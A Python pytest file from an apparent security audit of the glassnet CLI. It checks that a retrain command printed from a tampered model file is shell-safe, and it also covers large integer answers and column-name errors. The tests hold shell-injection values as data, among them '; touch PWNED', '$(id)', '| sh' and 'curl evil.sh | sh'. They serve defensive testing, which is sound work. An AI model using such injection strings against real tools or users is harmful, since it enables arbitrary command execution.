"""Round 29's security audit (sec29): what glassnet prints from a model file someone else
wrote, and what it reads from untrusted CSVs and answer files."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from cli_helpers import FAST, HEADER, assert_one_line_error, rows, run, write_csv

from glassnet.io import load_arrays, load_model, save_model


def _trained(capsys, tmp_path: Path, *extra: str) -> Path:
    data = write_csv(tmp_path / "data.csv", HEADER, rows())
    model = tmp_path / "m.glassnet"
    code, _, err = run(capsys, "train", data, "--target", "label", "--out", model, *FAST, *extra)
    assert code == 0, err
    return model


def _edited(model: Path, out: Path, edit) -> Path:
    """``model`` with its description edited by ``edit(meta)``, saved by glassnet itself:
    its checksum is right, only the description is hostile."""
    meta = load_arrays(model)[1]["meta"]
    edit(meta)
    save_model(load_model(model, network_only=True), out, meta=meta)
    return out


def _retrain_line(out: str) -> str:
    (line,) = [s.strip() for s in out.splitlines() if s.strip().startswith("glassnet train")]
    return line


def _unquoted(line: str) -> str:
    """``line`` less what a POSIX shell reads inside '...' or $'...' quotes."""
    out, i = [], 0
    while i < len(line):
        if line[i] == "'" or line.startswith("$'", i):
            close = "'" if line[i] == "'" else None
            j = i + 1 if close else i + 2
            while j < len(line) and line[j] != "'":
                j += 2 if (not close and line[j] == "\\") else 1
            i = j + 1
        else:
            out.append(line[i])
            i += 1
    return "".join(out)


HOSTILE = {
    "hidden": ["64 $(touch PWNED)"],
    "activation": "relu; touch PWNED",
    "optimizer": "adam$(id)",
    "task": "binary | sh",
    "dtype": "float64`id`",
    "impute": "mean;id",
}


@pytest.mark.parametrize("data", ["--dataset moons; curl evil.sh | sh #", "x.csv; id", "--help"])
def test_info_quotes_or_refuses_every_value_of_the_retrain_command(capsys, tmp_path, data):
    # sec29 #1: info printed a crafted file's training settings straight into the command
    # that "trains the same model again": pasted, '; touch PWNED' ran
    model = _trained(capsys, tmp_path, "--impute", "mean", "--dtype", "float64")

    def edit(meta):
        meta["training"].update(HOSTILE, data=data)

    evil = _edited(model, tmp_path / "evil.glassnet", edit)
    code, out, err = run(capsys, "info", evil)
    assert code == 0, err
    line = _retrain_line(out)
    words = shlex.split(line)
    # a shell's lexer with punctuation: no ';', '|', '&' word outside quotes
    lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    assert not [w for w in lexer if w and set(w) <= set(";|&()<>")], line
    # nothing a shell would run or expand: no '$', backquote or '#' outside '...'
    bare = _unquoted(line)
    assert not set(bare) & set(";|&$`#<>()"), (bare, line)
    assert words[:2] == ["glassnet", "train"]
    # the values that are not one of train's choices are shown as '?'
    for flag in ("--hidden", "--activation", "--optimizer", "--task", "--dtype", "--impute"):
        assert words[words.index(flag) + 1] == "?", (flag, line)
    if data.startswith("--dataset "):  # not a bundled data set's name: '?'
        assert words[2:4] == ["--dataset", "?"], line
    else:  # a data path is one word, never an option
        assert words[2] == (f"./{data}" if data.startswith("-") else data), line
    assert "PWNED" not in line.replace("'relu; touch PWNED'", "")


def test_info_retrain_command_of_an_honest_file_is_unchanged(capsys, tmp_path):
    model = _trained(capsys, tmp_path, "--impute", "median", "--dtype", "float64")
    code, out, err = run(capsys, "info", model)
    assert code == 0, err
    words = shlex.split(_retrain_line(out))
    assert words[2] == str(tmp_path / "data.csv")
    honest = {"--hidden": "4", "--activation": "relu", "--optimizer": "adam", "--task": "binary",
              "--dtype": "float64", "--impute": "median"}  # fmt: skip
    for flag, value in honest.items():
        assert words[words.index(flag) + 1] == value, (flag, words)


def test_info_retrain_command_of_a_dataset_names_only_a_bundled_one(capsys, tmp_path):
    model = tmp_path / "d.glassnet"
    code, _, err = run(capsys, "train", "--dataset", "moons", "--out", model, *FAST)
    assert code == 0, err
    code, out, err = run(capsys, "info", model)
    assert shlex.split(_retrain_line(out))[2:4] == ["--dataset", "moons"]
    evil = _edited(model, tmp_path / "e.glassnet",
                   lambda m: m["training"].update(data="--dataset moons --help"))  # fmt: skip
    code, out, err = run(capsys, "info", evil)
    assert code == 0, err
    words = shlex.split(_retrain_line(out))
    assert "--help" not in words, words


# ------------------------------------------------------------ exercise check: huge ints
def test_a_json_answer_of_thousands_of_digits_is_graded_as_written(capsys, tmp_path):
    # sec29 #6: a JSON answer of 5,000 digits stopped the file with Python's int-string
    # limit and its advice (sys.set_int_max_str_digits), naming neither file nor answer;
    # the same number in a .txt answers file was graded
    sheet = tmp_path / "ex"
    code, _, err = run(capsys, "exercise", "--seed", "3", "--out", sheet, "--kinds", "forward")
    assert code == 0, err
    answers = tmp_path / "b1.json"
    answers.write_text('{"1.z1": ' + "9" * 5000 + "}", encoding="utf-8")
    code, out, err = run(capsys, "exercise", "check", sheet / "key.json", answers)
    text = out + err
    assert "set_int_max_str_digits" not in text and "Traceback" not in text, text[-600:]
    assert "1.z1" in text and "(5000 characters)" in text, text[-600:]


# ------------------------------------------------------------ predict: names, not counts
def test_predict_says_which_names_differ_when_the_counts_match(capsys, tmp_path):
    # sec29 #7: "'ac.csv' has 2 feature column(s) but the model was trained on 2" read as
    # if nothing were wrong: the names differ, not the counts
    model = _trained(capsys, tmp_path)
    other = write_csv(tmp_path / "ac.csv", ["a", "c"], [[1, 2], [3, 4]])
    code, _, err = run(capsys, "predict", model, other)
    assert code == 2
    assert_one_line_error(err, "ac.csv' differ from the model's (a, b)",
                          "missing: b", "not in the model: c")  # fmt: skip
    assert "has 2 feature column(s) but the model was trained on 2" not in err
    fewer = write_csv(tmp_path / "a.csv", ["a"], [[1], [3]])
    code, _, err = run(capsys, "predict", model, fewer)
    assert code == 2
    assert_one_line_error(err, "has 1 feature column(s) but the model was trained on 2")


# ------------------------------------------------------------ train: a --drop too long
def _constant_columns(tmp_path: Path, n: int, width: int) -> Path:
    names = [f"c{i:0{width}d}" for i in range(n)]
    body = [[*(1 for _ in names), "yes" if r % 2 else "no"] for r in range(4)]
    return write_csv(tmp_path / "wide.csv", [*names, "label"], body)


def _drop_warning(err: str) -> str:
    (line,) = [s for s in err.splitlines() if "single value" in s]
    return line


def test_the_drop_advice_of_many_constant_columns_is_whole_while_it_fits(capsys, tmp_path):
    # sec29 #5 cut this list at 30 names; revS #1: a --drop that one argument holds (128 KiB)
    # is printed whole, to paste (test_fix_sec_round29 for the limit)
    data = _constant_columns(tmp_path, 300, 3)
    code, _, err = run(capsys, "train", data, "--target", "label", "--epochs", "1",
                       "--hidden", "2", "--out", tmp_path / "m.glassnet")  # fmt: skip
    assert code == 0, err
    line = _drop_warning(err)
    assert "--drop c000,c001," in line and line.endswith(",c298,c299"), line
    assert "more" not in line.split("--drop", 1)[1], line


def test_a_drop_longer_than_a_shell_takes_is_not_suggested(capsys, tmp_path):
    # a --drop of more than 128 KiB fails with "Argument list too long": said, not printed
    data = _constant_columns(tmp_path, 1500, 96)
    code, _, err = run(capsys, "train", data, "--target", "label", "--epochs", "1",
                       "--hidden", "2", "--out", tmp_path / "m.glassnet")  # fmt: skip
    assert code == 0, err
    line = _drop_warning(err)
    assert len(line) < 3000, line
    assert "128 KiB" in line and "write the file without them" in line, line
    assert "1470 more" in line, line


def test_a_few_constant_columns_still_get_the_whole_drop(capsys, tmp_path):
    data = _constant_columns(tmp_path, 3, 1)
    code, _, err = run(capsys, "train", data, "--target", "label", "--epochs", "1",
                       "--hidden", "2", "--out", tmp_path / "m.glassnet")  # fmt: skip
    assert code == 0, err
    assert "--drop c0,c1,c2" in _drop_warning(err)
